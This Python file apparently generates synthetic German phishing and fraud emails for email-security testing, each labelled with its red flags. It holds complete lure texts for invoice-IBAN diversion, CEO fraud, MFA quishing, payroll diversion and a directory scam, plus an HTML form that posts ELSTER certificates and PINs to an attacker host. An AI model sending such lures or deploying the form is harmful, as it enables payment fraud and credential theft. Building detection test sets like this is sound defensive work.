"""Attack messages 01-08 (German)."""

from lib import systems as sy, bodies as bd, mime, docs, archive, ident, org, util
from lib.h import msg, att, pdf, qr_png, qr_part, logo_png, gmt
from lib.util import CRLF, secs, rfcdate

LIEF = org.LIEF
ATT = "attack"


def _lief_footer():
    return ["Lieferant GmbH · Industriestraße 14 · 74076 Heilbronn · Tel. +49 7131 58210-0 · www.lieferant-gmbh.de",
            "Geschäftsführer: Dipl.-Kfm. Rainer Lehmann, Susanne Dorn · Amtsgericht Stuttgart HRB 108463 · "
            "USt-IdNr. %s" % LIEF["vat"]]


PETRA_SIG = """Mit freundlichen Grüßen

Petra Lang
Vertriebsinnendienst / Auftragsabwicklung

Lieferant GmbH
Industriestraße 14 | 74076 Heilbronn
Tel. +49 7131 58210-24 | Fax +49 7131 58210-99
p.lang@lieferant-gmbh.de | www.lieferant-gmbh.de

Geschäftsführer: Dipl.-Kfm. Rainer Lehmann, Susanne Dorn
Amtsgericht Stuttgart HRB 108463"""


@msg(ATT, 1, "de", "lieferant-threadhijack-bankverbindung",
     "Reply in a real thread about open items from the real mailbox of Petra Lang (Lieferant GmbH): 'new bank "
     "account after our bank merger', PDF letter with the new IBAN, pay three invoices now",
     "Thread hijacking from a compromised supplier mailbox: submitted through Roundcube webmail from a datacenter IP "
     "(91.92.243.17) instead of Petra's Outlook, new account at a different bank (DKB Berlin) than the one printed on "
     "every Lieferant invoice, urgency and avoidance of phone verification; SPF/DKIM/DMARC all pass")
def a01(m):
    m.when(2026, 10, 20, 16, 47, 31)
    p = LIEF["people"]["lang"]
    m.frm = (p[0], p[1])
    m.to = [org.st("jana.koehler")]
    m.subject = "Re: AW: Offene Posten Lieferant GmbH - Kontoauszug Oktober"
    jana_mid = "b3f07c2e91d24a58a6e1d0c4f7a95e13@EXCH01.corp.example.com"
    m.in_reply_to = jana_mid
    m.references = ["000001dc3f1b$6e2a4c10$4a7ee430$@lieferant-gmbh.de", jana_mid]
    new_iban = ident.make_iban("DE", "12030000" + "1064418297")
    m.fact("IBAN", new_iban, "attacker-controlled account (DKB, Berlin)")
    m.fact("phone", "+49 7131 58210-24", "Petra Lang's real extension (signature)")
    text = ("Hallo Frau Köhler,\n\n"
            "vielen Dank für die Aufstellung, die Posten decken sich mit unserer OP-Liste.\n\n"
            "Wichtiger Hinweis: Im Zuge der Zusammenlegung unserer Bankverbindungen wird unser bisheriges Konto bei "
            "der Unterländer Volksbank zum 31.10. geschlossen. Zahlungen, die dort nach dem 23.10. eingehen, werden "
            "automatisch zurückgebucht. Bitte überweisen Sie die offenen Rechnungen RE-2026-10311, RE-2026-10344 und "
            "RE-2026-10402 (gesamt 48.712,36 EUR) daher bereits auf unsere neue Bankverbindung:\n\n"
            "Kontoinhaber: Lieferant GmbH\n"
            "IBAN: %s\n"
            "BIC: BYLADEM1001 (Deutsche Kreditbank AG)\n\n"
            "Das Schreiben unserer Geschäftsführung liegt bei. Könnten Sie mir kurz bestätigen, wann die Zahlung "
            "angewiesen wird? Ich bin diese Woche wegen der Inventur telefonisch leider kaum erreichbar, per Mail "
            "aber jederzeit.\n\n" % ident.fmt_iban(new_iban)) + PETRA_SIG + (
        "\n\n\nAm 19.10.2026 11:02, schrieb Jana Köhler:\n"
        "> Hallo Frau Lang,\n>\n"
        "> anbei wie besprochen unsere Aufstellung der offenen Posten zum 16.10.:\n>\n"
        "> RE-2026-10311 vom 22.09.2026   17.406,20 EUR\n"
        "> RE-2026-10344 vom 29.09.2026   12.877,44 EUR\n"
        "> RE-2026-10402 vom 06.10.2026   18.428,72 EUR\n>\n"
        "> Die Gutschrift GS-2026-0581 haben wir bereits verrechnet. Bitte prüfen Sie, ob das mit Ihrer OP-Liste\n"
        "> übereinstimmt, dann geben wir die Zahlung mit dem nächsten Zahllauf frei.\n>\n"
        "> Mit freundlichen Grüßen\n> Jana Köhler\n> Kreditorenbuchhaltung\n>\n"
        "> Example Group SE | Seckenheimer Landstraße 210 | 68163 Mannheim\n")
    letter = docs.letter(
        ["Lieferant GmbH", "Pharmagroßhandel · OTC · Medizinprodukte", "Industriestraße 14 · 74076 Heilbronn"],
        ["Example Group SE", "Kreditorenbuchhaltung", "Seckenheimer Landstraße 210", "68163 Mannheim"],
        "Heilbronn, 20.10.2026", "Änderung unserer Bankverbindung",
        ["Sehr geehrte Damen und Herren,",
         "im Rahmen der Neuordnung unseres Zahlungsverkehrs wird unsere bisherige Bankverbindung bei der Unterländer "
         "Volksbank eG zum 31.10.2026 aufgelöst. Bitte leisten Sie ab sofort sämtliche Zahlungen – auch für bereits "
         "gestellte, noch offene Rechnungen – ausschließlich auf folgendes Konto:",
         "  Kontoinhaber: Lieferant GmbH",
         "  Bank: Deutsche Kreditbank AG, Berlin",
         "  IBAN: " + ident.fmt_iban(new_iban),
         "  BIC: BYLADEM1001",
         "Zahlungen auf die alte Bankverbindung können nach dem 23.10.2026 nicht mehr zugeordnet werden und werden "
         "zurückgebucht. Wir bitten Sie, Ihre Stammdaten entsprechend anzupassen.",
         "Für Rückfragen steht Ihnen Frau Petra Lang per E-Mail (p.lang@lieferant-gmbh.de) gerne zur Verfügung.",
         "Mit freundlichen Grüßen"],
        ["", "Rainer Lehmann", "Geschäftsführer"], _lief_footer(),
        dict(title="Bankverbindung", author="Buchhaltung", creator="Microsoft® Word 2016",
             producer="Microsoft® Word 2016", date="D:20261020153812+02'00'"), color=(0, 84, 140))
    sy.relay(m, "mail.lieferant-gmbh.de", "203.0.113.25", sy.mua_roundcube(m),
             submit={"kind": "esmtpsa", "client": ("localhost", "127.0.0.1"), "helo": "webmail.lieferant-gmbh.de",
                     "user": "p.lang@lieferant-gmbh.de"},
             dkim=("lieferant-gmbh.de", "mail2024", "relaxed/simple",
                   "Date:From:To:Subject:In-Reply-To:References:From"), dkim_filter=True,
             hops=["Received: from [91.92.243.17]" + CRLF + "\tby webmail.lieferant-gmbh.de" + CRLF +
                   "\twith HTTP (HTTP/1.1 POST); " + rfcdate(m.date)])
    tp = mime.text(text, "plain", "utf-8", "quoted-printable", "UTF-8", quoted=False, extra_params="; format=flowed")
    a = att(m, letter, "application/pdf", "Schreiben_Bankverbindung_Lieferant_GmbH.pdf", "plain")
    m.root = mime.multipart("mixed", [tp, a], "=_" + m.rng.hexs(32), quoted=True)


@msg(ATT, 2, "de", "ceo-vertrauliche-transaktion",
     "'Dr. Matthias Brenner' writes to the CFO from a look-alike domain: strictly confidential acquisition, a Zurich "
     "lawyer will call about an escrow payment of about EUR 1.85 m, reply by mail only",
     "CEO fraud: examplegroup-eu.com is not a company domain (registered by the attacker, own Microsoft 365 tenant, "
     "SPF/DKIM pass, no DMARC alignment with example.com), secrecy towards colleagues, urgency, first-contact "
     "'are you available' pattern before the payment instructions")
def a02(m):
    m.when(2026, 11, 5, 8, 12, 44)
    m.frm = ("Dr. Matthias Brenner", "matthias.brenner@examplegroup-eu.com")
    m.to = [org.st("claudia.hoffmann-weiss")]
    m.subject = "Vertraulich - Projekt Rheinblick"
    m.lang = "de-DE"
    text = ("Claudia,\n\n"
            "ich bin bis Donnerstag in Zürich für die abschließenden Gespräche zur Übernahme der Apothekengruppe, "
            "über die wir im Sommer kurz gesprochen hatten. Das Thema ist bis zur Signatur streng vertraulich "
            "(Kartellanmeldung läuft), bitte intern mit niemandem darüber sprechen, auch nicht im Finance-Team.\n\n"
            "Dr. Lorenz Baumgartner von der Kanzlei Wenger Baumgartner & Partner (Zürich) meldet sich heute Vormittag "
            "bei dir wegen der Anzahlung auf das Treuhandkonto. Es geht um ca. 1,85 Mio. EUR, die Überweisung muss "
            "heute noch raus, damit wir die Exklusivität halten.\n\n"
            "Kannst du mir kurz bestätigen, dass du heute erreichbar bist und wie hoch unser verfügbarer Saldo auf dem "
            "Neckartal-Konto ist? Bitte nur per Mail antworten, ich sitze den ganzen Tag in Verhandlungen und kann "
            "nicht telefonieren.\n\n"
            "Danke dir\nMatthias\n\nVon meinem iPhone gesendet")
    t = org.FERR["tenant"].copy()
    t.update(domain="examplegroup-eu.com", tid="c7a1e4f2-9b3d-4e58-8f21-6d0a3b5c9e74", pfx="FR4P281MB",
             hubpfx="FR2P281MB", region="DEUP281", obe="DEU01-FR2-obe", obhost="mail-fr2deu01on2131", ip="52.101.69.131",
             onms="examplegroupeu.onmicrosoft.com", accept="de-DE, en-US", ipv6pfx="2603:10a6:d10")
    bd.outlook(m, text, "iso-8859-1")
    sy.m365(m, t)


@msg(ATT, 3, "de", "m365-mfa-quishing-pdf",
     "'Microsoft 365 Administrator' tells the warehouse manager his MFA registration expires; instructions in a PDF "
     "whose QR code must be scanned with the phone",
     "Quishing: QR code inside a PDF (invisible to URL scanners) leading through a Bing open redirect to an AitM "
     "login page on secure-auth365.com; sent with PHPMailer from a compromised plumber's website "
     "(sanitaer-rhein-neckar.de), which has nothing to do with Microsoft; personalised filename and deadline")
def a03(m):
    m.when(2026, 11, 9, 7, 31, 2)
    m.frm = ("Microsoft 365 Administrator", "it-service@sanitaer-rhein-neckar.de")
    m.to = [org.st("florian.schaefer")]
    m.subject = "Aktion erforderlich: Ihre MFA-Registrierung läuft am 12.11.2026 ab - Florian Schäfer"
    target = "https://mfa-examplegroup.secure-auth365.com/auth?e=florian.schaefer@example.com"
    import base64
    bing = ("https://www.bing.com/ck/a?!&&p=9f3c1b7e2a6d4c58JmltdHM9MTc2MjY0NjQwMCZpZ3VpZD0wYzE4&ptn=3&ver=2&hsh=4&u="
            + "a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=") + "&ntb=1")
    m.fact("other", target, "final phishing URL (base64 inside the Bing redirect)")
    lines = ["Sehr geehrte/r Florian Schäfer,",
             "im Rahmen der Sicherheitsrichtlinie Ihrer Organisation (example.com) muss die Multi-Faktor-"
             "Authentifizierung (MFA) für Ihr Microsoft 365-Konto erneut bestätigt werden. Ihre aktuelle Registrierung "
             "läuft am 12.11.2026 um 23:59 Uhr ab.",
             "Nach Ablauf werden Outlook, Teams und OneDrive auf allen Geräten gesperrt, bis die Registrierung durch "
             "den Helpdesk zurückgesetzt wurde.",
             "**So bestätigen Sie Ihre Registrierung (ca. 1 Minute):",
             "1. Öffnen Sie die Kamera-App Ihres Smartphones.",
             "2. Scannen Sie den untenstehenden QR-Code.",
             "3. Melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an und bestätigen Sie die Anfrage in der "
             "Authenticator-App."]
    data = docs.notice("Bestätigung der Multi-Faktor-Authentifizierung", "Microsoft 365", (0, 103, 184), lines,
                       dict(title="MFA Reaktivierung", author="Microsoft", creator="Microsoft Word",
                            producer="Microsoft: Print To PDF", date="D:20261109062241+01'00'"),
                       qr=bing, qr_size=150,
                       small=["Referenz: MFA-REQ-7F3K-22941 · Diese Nachricht wurde automatisch generiert.",
                              "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"])
    m.want_qr(bing)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">'
            '<p>Sehr geehrte/r Florian Schäfer,</p>'
            '<p>Ihre Registrierung für die Multi-Faktor-Authentifizierung läuft am <b>12.11.2026</b> ab. '
            'Die Anleitung zur erneuten Bestätigung finden Sie im angehängten Dokument.</p>'
            '<p>Bitte führen Sie die Bestätigung mit Ihrem Mobiltelefon durch.</p>'
            '<p style="color:#666;font-size:12px">Microsoft 365 Administrator<br>example.com</p>'
            '</div></body></html>\n')
    host = "vps2417.webhostingserver.de"
    hp = mime.text(html, "html", "utf-8", "quoted-printable", quoted=False)
    a = att(m, data, "application/pdf", "MFA_Reaktivierung_Florian.Schaefer.pdf", "plain")
    m.root = mime.multipart1("mixed", [hp, a], "b1=_" + m.rng.alnum(40))
    m.root.preamble = "This is a multi-part message in MIME format."
    hdrs = sy.mua_phpmailer(m, "sanitaer-rhein-neckar.de")
    sy.relay(m, host, "198.51.100.183", hdrs,
             submit={"kind": "exim_local", "user": "sanitaer"},
             dkim=("sanitaer-rhein-neckar.de", "default", "relaxed/relaxed",
                   "Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To:Cc"),
             mta="exim", extra_trace=sy.cpanel_abuse(host, "sanitaer", "sanitaer-rhein-neckar.de"), tls="1.2")


@msg(ATT, 4, "de", "securpharm-zertifikat-verlaengerung",
     "'securPharm Apothekenserver' warns the responsible pharmacist that the N-ID certificate of the mail-order "
     "pharmacy expires in 5 days and packs can no longer be verified; button to renew",
     "Trade-specific credential phishing: look-alike domain securpharm-ngda.de (real: securpharm.de / ngda.de) "
     "sending through SendGrid; the link's visible text says portal.ngda.de but goes through SendGrid click tracking "
     "to a login clone; threatens operational stop under the Falsified Medicines Directive")
def a04(m):
    m.when(2026, 11, 13, 10, 5, 19)
    m.frm = ("securPharm Apothekenserver", "noreply@securpharm-ngda.de")
    m.reply_to = [("securPharm Support", "support@securpharm-ngda.de")]
    m.to = [org.st("katrin.vogt")]
    m.subject = "Ihr N-ID-Zertifikat für den Apothekenserver läuft in 5 Tagen ab"
    r = m.rng
    click = "https://u48213077.ct.sendgrid.net/ls/click?upn=u001.%s-2BV%s" % (r.b64url(60), r.b64url(40))
    title = "N-ID-Zertifikat läuft ab"
    paras = ["Sehr geehrte Frau Dr. Vogt,",
             "das Zugangszertifikat Ihrer Betriebsstätte für den Apothekenserver (N-ID 10018427, Example "
             "Versandapotheke Mannheim) ist nur noch bis zum **18.11.2026** gültig.",
             "Ohne gültiges Zertifikat ist die Verifikation und Ausbuchung von Arzneimittelpackungen gemäß "
             "Delegierter Verordnung (EU) 2016/161 ab dem 19.11.2026 nicht mehr möglich. Ihr Warenwirtschaftssystem "
             "meldet dann bei jedem Scan den Status „nicht verifiziert“.",
             "Die Verlängerung dauert etwa zwei Minuten. Bitte halten Sie Ihre N-ID und das Passwort Ihres "
             "Apothekenserver-Kontos bereit."]
    footer = ["NGDA – Netzgesellschaft Deutscher Apotheker mbH · Carl-Mannich-Straße 26 · 65760 Eschborn",
              "Sie erhalten diese Nachricht, weil Ihre Betriebsstätte beim Apothekenserver registriert ist.",
              "[portal.ngda.de/zertifikate](%s)" % click]
    html = bd.notice_html("securPharm · Apothekenserver", "#00587c", title, paras, ("Zertifikat jetzt verlängern", click),
                          footer, lang="de", preheader="Verlängerung bis 18.11.2026 erforderlich")
    text = bd.notice_text(title, paras, ("Zertifikat jetzt verlängern", click), footer)
    m.fact("other", "https://portal.securpharm-ngda.de/zertifikat/verlaengerung", "landing page behind the click tracker")
    bd.alt(m, text, html, m.rng.hexs(60), "utf-8", "quoted-printable", quoted=False)
    sy.sendgrid(m, "securpharm-ngda.de", "149.72.207.88", 48213077)


@msg(ATT, 5, "de", "elster-zertifikat-html-anhang",
     "'Mein ELSTER' says the organisation's ELSTER certificate must be renewed by 27.11.; attached HTML form asks "
     "for the certificate file and its password",
     "HTML-attachment credential phishing: local HTML page whose form posts the ELSTER certificate and PIN to "
     "elster-login.verify-de.com; sent through Mailgun from mein-elster-info.de (ELSTER mails come from elster.de and "
     "never carry forms); deadline pressure")
def a05(m):
    m.when(2026, 11, 24, 14, 22, 8)
    m.frm = ("Mein ELSTER", "benachrichtigung@mein-elster-info.de")
    m.to = [org.st("jana.koehler")]
    m.subject = "Mein ELSTER: Ihr Organisationszertifikat muss bis 27.11.2026 verlängert werden"
    text = ("Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\n"
            "das Organisationszertifikat Ihres Benutzerkontos (Steuernummer 37/102/4xxxx, Example Group SE) läuft in "
            "Kürze ab. Damit Umsatzsteuer-Voranmeldungen und Lohnsteuer-Anmeldungen weiterhin fristgerecht übermittelt "
            "werden können, muss das Zertifikat bis zum 27.11.2026 verlängert werden.\n\n"
            "Öffnen Sie dazu bitte das beigefügte Formular „ELSTER_Zertifikatsverlaengerung.html“ in Ihrem Browser und "
            "folgen Sie den Anweisungen. Halten Sie Ihre Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.\n\n"
            "Bitte beachten Sie: Nach Ablauf der Frist ist eine Neuregistrierung mit Aktivierungsbrief erforderlich. "
            "Die Zustellung des Aktivierungsbriefes kann bis zu zwei Wochen dauern.\n\n"
            "Mit freundlichen Grüßen\nIhr ELSTER-Team\n\n"
            "Dies ist eine automatisch erstellte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.")
    action = "https://elster-login.verify-de.com/cert/renew.php"
    page = ("<!DOCTYPE html>\n<html lang=\"de\">\n<head>\n<meta charset=\"utf-8\">\n"
            "<title>Mein ELSTER – Zertifikat verlängern</title>\n"
            "<style>body{font-family:Arial,sans-serif;background:#f1f1f1;margin:0}"
            ".top{background:#2a5f8a;color:#fff;padding:14px 30px;font-size:22px}"
            ".box{background:#fff;width:460px;margin:40px auto;padding:28px;border:1px solid #ccc}"
            "label{display:block;margin-top:14px;font-size:13px}input{width:100%;padding:7px;margin-top:4px}"
            "button{margin-top:20px;background:#2a5f8a;color:#fff;border:0;padding:10px 24px}</style>\n</head>\n<body>\n"
            "<div class=\"top\">Mein ELSTER</div>\n<div class=\"box\">\n<h2>Zertifikat verlängern</h2>\n"
            "<p>Bitte melden Sie sich mit Ihrer Zertifikatsdatei an, um die Verlängerung abzuschließen.</p>\n"
            "<form method=\"post\" enctype=\"multipart/form-data\" action=\"@ACTION@\">\n"
            "<label>Zertifikatsdatei (.pfx)<input type=\"file\" name=\"certfile\"></label>\n"
            "<label>Passwort der Zertifikatsdatei<input type=\"password\" name=\"pin\"></label>\n"
            "<label>E-Mail-Adresse für die Bestätigung<input type=\"email\" name=\"mail\" "
            "value=\"jana.koehler@example.com\"></label>\n"
            "<button type=\"submit\">Verlängerung starten</button>\n</form>\n"
            "<p style=\"font-size:11px;color:#777\">Bayerisches Landesamt für Steuern – ELSTER</p>\n"
            "</div>\n</body>\n</html>\n").replace("@ACTION@", action)
    m.fact("URL", action, "form action inside the HTML attachment")
    tp = mime.text(text, "plain", "utf-8", "quoted-printable", quoted=True)
    a = att(m, page.encode("utf-8"), "text/html", "ELSTER_Zertifikatsverlaengerung.html", "plain")
    m.root = mime.multipart("mixed", [tp, a], m.rng.hexs(32), quoted=True)
    sy.mailgun(m, "mein-elster-info.de", "161.38.204.72", "m204-72.eu.mailgun.net")


@msg(ATT, 6, "de", "angebot-passwort-zip-lnk",
     "Reply 'AW: Angebot Kompressionsstrümpfe / Bandagen 2027' from the real mailbox of a medical-supply shop that "
     "corresponded with procurement last spring: 'attached the revised documents, password 2026Q4'",
     "Malware loader via thread hijacking (Emotet/Qakbot style): old real thread replayed from a compromised IONOS "
     "mailbox, submitted from a Vietnamese consumer IP, password-protected ZIP (so gateways cannot scan it) holding a "
     "'.pdf.lnk' shortcut; generic two-line text unrelated to the quoted conversation")
def a06(m):
    m.when(2026, 10, 7, 9, 48, 13)
    m.frm = ("Bernd Wagner", "b.wagner@sanitaetshaus-kurpfalz.de")
    m.to = [org.st("markus.jaeger")]
    m.subject = "AW: Angebot Kompressionsstrümpfe / Bandagen 2027"
    old = "0a1f2b7c3d9e41c6b2a5f8e7d6c5b4a3@EXCH02.corp.example.com"
    m.in_reply_to = old
    m.references = [old]
    pw = "2026Q4"
    m.meta["zip_pw"] = {"Angebot_2027_Kurpfalz.zip": pw}
    m.fact("other", "ZIP password %s (given in the body)" % pw)
    inner = ("[INERT TEST SAMPLE – no executable content]\r\n"
             "Represents a Windows shortcut (.lnk) named like a PDF. In the real campaign the shortcut starts a "
             "hidden command interpreter that downloads a second-stage loader. This placeholder contains text only.\r\n")
    z = archive.make_zip([("Angebot_2027_Kurpfalz.pdf.lnk", inner.encode(), (2026, 10, 7, 8, 51, 36))],
                         password=pw, rng=m.rng.sub("zip"))
    text = ("Guten Tag Herr Jäger,\n\n"
            "anbei die überarbeiteten Unterlagen wie besprochen.\n"
            "Passwort für die Datei: 2026Q4\n\n"
            "Mit freundlichen Grüßen\nBernd Wagner\n\n"
            "-----Ursprüngliche Nachricht-----\n"
            "Von: Markus Jäger <markus.jaeger@example.com>\n"
            "Gesendet: Donnerstag, 17. April 2026 14:12\n"
            "An: Bernd Wagner <b.wagner@sanitaetshaus-kurpfalz.de>\n"
            "Betreff: Angebot Kompressionsstrümpfe / Bandagen 2027\n\n"
            "Hallo Herr Wagner,\n\n"
            "danke für das Gespräch heute. Wie besprochen bitten wir um ein Angebot für das Sortiment "
            "Kompressionsstrümpfe Klasse I/II sowie Bandagen (Knie, Sprunggelenk) für 2027, Belieferung des "
            "Zentrallagers Mannheim, ca. 120 Filialen.\n\n"
            "Viele Grüße\nMarkus Jäger\nLeiter Einkauf\nExample Group SE\n")
    r = m.rng
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head><body>'
            '<p>Guten Tag Herr Jäger,</p><p>anbei die überarbeiteten Unterlagen wie besprochen.<br>'
            'Passwort für die Datei: <b>2026Q4</b></p><p>Mit freundlichen Grüßen<br>Bernd Wagner</p>'
            '<hr><p><b>Von:</b> Markus Jäger &lt;markus.jaeger@example.com&gt;<br><b>Gesendet:</b> Donnerstag, 17. April '
            '2026 14:12<br><b>An:</b> Bernd Wagner &lt;b.wagner@sanitaetshaus-kurpfalz.de&gt;<br><b>Betreff:</b> '
            'Angebot Kompressionsstrümpfe / Bandagen 2027</p><p>Hallo Herr Wagner,</p><p>danke für das Gespräch '
            'heute. Wie besprochen bitten wir um ein Angebot für das Sortiment Kompressionsstrümpfe Klasse I/II sowie '
            'Bandagen (Knie, Sprunggelenk) für 2027, Belieferung des Zentrallagers Mannheim, ca. 120 Filialen.</p>'
            '<p>Viele Grüße<br>Markus Jäger<br>Leiter Einkauf<br>Example Group SE</p></body></html>\n')
    bnd = "----=_NextPart_000_%s_%s.%s" % (r.hexs(4, True), r.hexs(8, True), r.hexs(8, True))
    t = mime.text(text, "plain", "windows-1252", "quoted-printable")
    hp = mime.text(html, "html", "windows-1252", "quoted-printable")
    altp = mime.multipart("alternative", [t, hp], "----=_NextPart_001_%s_%s.%s" % (r.hexs(4, True), r.hexs(8, True),
                                                                                     r.hexs(8, True)))
    a = att(m, z, "application/x-zip-compressed", "Angebot_2027_Kurpfalz.zip", "plain")
    m.root = mime.multipart("mixed", [altp, a], bnd, preamble="This is a multi-part message in MIME format.")
    m.msgid = "%s$%s$%s$@sanitaetshaus-kurpfalz.de" % ("000601dc3" + r.hexs(3), r.hexs(8), r.hexs(8))
    hdrs = m.std(["From", "To", "References", "In-Reply-To", "Subject", "Date", "Message-ID", "MIME-Version", "MIME"])
    hdrs.append("X-Mailer: Microsoft Outlook 16.0")
    hdrs.append("Thread-Index: " + sy.thread_index(m, True))
    hdrs.append("Content-Language: de")
    node = "mreue%d" % r.randint(100, 112)
    sy.relay(m, "mout.kundenserver.de", "212.227.126.%d" % r.randint(130, 135), hdrs,
             submit={"kind": "raw", "lines": [
                 "Received: from DESKTOP-7G2K1QM ([113.161.74.29]) by mrelayeu.kundenserver.de" + CRLF +
                 " (%s [212.227.15.%d]) with ESMTPSA (Nemesis) id 1M%s; %s" % (
                     node, r.randint(160, 190), r.alnum(12), rfcdate(m.date + secs(1)))]},
             extra_trace=["X-Provags-ID: V03:K1:" + r.b64(70).rstrip("=") + CRLF + " " + r.b64(30).rstrip("="),
                          "UI-OutboundReport: notjunk:1;M01:P0:" + r.b64(30).rstrip("=") + ";" + CRLF + " " +
                          r.b64(50).rstrip("=")], tls="1.3")
    m.conn = ("mout.kundenserver.de", "mout.kundenserver.de", m.conn[2])


@msg(ATT, 7, "de", "gewerbeverzeichnis-zahlungsaufforderung",
     "'Zentrales Gewerbe- und Handelsverzeichnis' sends an official-looking 'Eintragungsbestätigung / "
     "Zahlungsaufforderung' PDF with a GiroCode for EUR 849.66",
     "Register/directory scam: private 'register' imitating public notices (Handelsregister/Gewerbeamt), the fee is "
     "in fact an offer for a 3-year paid listing hidden in small print; EPC QR pays a Lithuanian e-money account; "
     "bulk-sent through Brevo from a throw-away domain")
def a07(m):
    m.when(2026, 12, 2, 11, 16, 40)
    m.frm = ("ZGV Zentrales Gewerbeverzeichnis", "bescheid@zgv-register.de")
    m.to = [org.st("sandra.keller")]
    m.subject = "Eintragungsbestätigung und Zahlungsaufforderung - Az. ZGV-2026-118427"
    iban = ident.make_iban("LT", "35000" + "10013947261")
    m.fact("IBAN", iban, "scam collection account (Lithuanian EMI)")
    epc = ident.epc_qr("EVIULT2VXXX", "ZGV Verwaltungs UAB", iban, 849.66, "ZGV-2026-118427 Example Group SE")
    items = [("Eintragung und Veröffentlichung im Zentralen Gewerbeverzeichnis (Datensatz Example Group SE, "
              "Mannheim), Laufzeit 12 Monate", 1, 714.00, 19)]
    pdfb, total = docs.invoice(
        "de", ["ZGV Zentrales Gewerbeverzeichnis", "Verwaltungsstelle · Postfach 10 18 44 · 10558 Berlin",
               "Telefon 030 2015 8841 (Mo–Fr 9–12 Uhr)"],
        ["Example Group SE", "z. Hd. Geschäftsführung", "Seckenheimer Landstraße 210", "68163 Mannheim"],
        [("Aktenzeichen", "ZGV-2026-118427"), ("Datum", "01.12.2026"), ("Zahlungsfrist", "11.12.2026"),
         ("Register-Nr.", "HRB 739214")],
        items, ["Empfänger: ZGV Verwaltungs UAB", "IBAN: " + ident.fmt_iban(iban), "BIC: EVIULT2VXXX",
                "Verwendungszweck: ZGV-2026-118427"],
        dict(title="Zahlungsaufforderung", author="ZGV", creator="ZGV Bescheid-Generator 3.1",
             producer="iText® 7.2.5 ©2000-2023 iText Group NV", date="D:20261201180412+01'00'"),
        color=(90, 90, 90), qr=epc, qr_caption="Bezahlen mit GiroCode",
        title="Eintragungsbestätigung / Zahlungsaufforderung",
        notes=["Ihr Unternehmen wurde zur Veröffentlichung im Zentralen Gewerbeverzeichnis vorgemerkt. Bitte "
               "überweisen Sie den Betrag bis zum 11.12.2026, damit die Veröffentlichung Ihrer Daten erfolgen kann.",
               "Hinweis gem. § 312 BGB: Dies ist ein Angebot. Mit Zahlung kommt ein Vertrag über die Eintragung mit "
               "einer Laufzeit von 36 Monaten zustande; die Jahresgebühr wird jeweils im Voraus fällig. Keine "
               "Verbindung zu amtlichen Registern."],
        footer=["ZGV Verwaltungs UAB · Gedimino pr. 20 · LT-01103 Vilnius · Registro kodas 306118427"])
    m.want_qr(epc)
    m.fact("phone", "030 2015 8841", "'service line' on the PDF")
    paras = ["Sehr geehrte Damen und Herren,",
             "anbei erhalten Sie die Eintragungsbestätigung zum Aktenzeichen **ZGV-2026-118427** (Example Group SE, "
             "Amtsgericht Mannheim HRB 739214).",
             "Bitte begleichen Sie den ausgewiesenen Betrag von 849,66 EUR innerhalb von 10 Tagen. Für eine schnelle "
             "Zahlung können Sie den GiroCode auf dem Dokument mit Ihrer Banking-App scannen.",
             "Mit freundlichen Grüßen\nIhre ZGV-Verwaltungsstelle"]
    html = bd.notice_html("ZGV · Zentrales Gewerbeverzeichnis", "#4b5563", "Eintragungsbestätigung", paras, None,
                          ["ZGV Verwaltungs UAB · Gedimino pr. 20 · LT-01103 Vilnius",
                           "Abmeldung: Antworten Sie mit „Abmelden“."], lang="de")
    text = bd.notice_text("Eintragungsbestätigung", paras, None, ["ZGV Verwaltungs UAB · Gedimino pr. 20 · LT-01103 Vilnius"])
    a = att(m, pdfb, "application/pdf", "Zahlungsaufforderung_ZGV-2026-118427.pdf", "plain")
    bd.alt(m, text, html, m.rng.hexs(32), attachments=[a], mixed_boundary=m.rng.hexs(32), quoted=True)
    sy.brevo(m, "zgv-register.de", "185.41.28.%d" % m.rng.randint(100, 140), "m%d.sendibt3.com" % m.rng.randint(100, 200))


@msg(ATT, 8, "de", "gehalt-bankverbindung-privatmail",
     "'Florian Schäfer' writes to HR from a GMX address: switched banks, please pay the December salary to a new IBAN, "
     "writing from private mail because he is in the warehouse",
     "Payroll diversion: free-mail address merely containing the employee's name (never used before), new account at "
     "an online bank, excuse for not using the corporate mailbox, no employee number and no ESS portal change; "
     "iPhone signature to discourage follow-up questions")
def a08(m):
    m.when(2026, 11, 17, 6, 52, 11)
    m.frm = ("Florian Schäfer", "florian.schaefer.ma@gmx.de")
    m.to = [org.st("andrea.schroeder")]
    m.subject = "Neue Bankverbindung für Gehalt"
    iban = ident.make_iban("DE", "11010100" + "2815370644")
    m.fact("IBAN", iban, "account for the diverted salary (Solaris-based online bank)")
    text = ("Hallo Andrea,\n\n"
            "ich habe zum 01.12. meine Bank gewechselt. Kannst du bitte mein Gehalt ab der Dezember-Abrechnung auf "
            "das neue Konto überweisen?\n\n"
            "Kontoinhaber: Florian Schäfer\n"
            "IBAN: %s\n\n"
            "Ich schreib dir von privat, mein Outlook am Handy zickt seit dem Update und ich bin die ganze Woche im "
            "Lager. Kurze Rückmeldung reicht mir.\n\n"
            "Danke dir und Gruß\nFlorian\n\nVon meinem iPhone gesendet" % ident.fmt_iban(iban))
    m.lang = "de-DE"
    tp = mime.text(text, "plain", "utf-8", "quoted-printable", quoted=False)
    m.root = tp
    m.msgid = "%s@gmx.de" % m.rng.sub("ip").guid().upper()
    hdrs = m.std(["From"])
    hdrs.append("@MIME@")
    hdrs.append("Mime-Version: 1.0 (1.0)")
    hdrs += m.std(["Subject", "Date", "Message-Id", "To"])
    hdrs.append("X-Mailer: iPhone Mail (22B91)")
    sy.webde(m, "gmx.net", client_ip="37.24.118.%d" % m.rng.randint(2, 250), mua_hdrs=hdrs)
    m.conn = ("mout.gmx.net", "mout.gmx.net", m.conn[2])
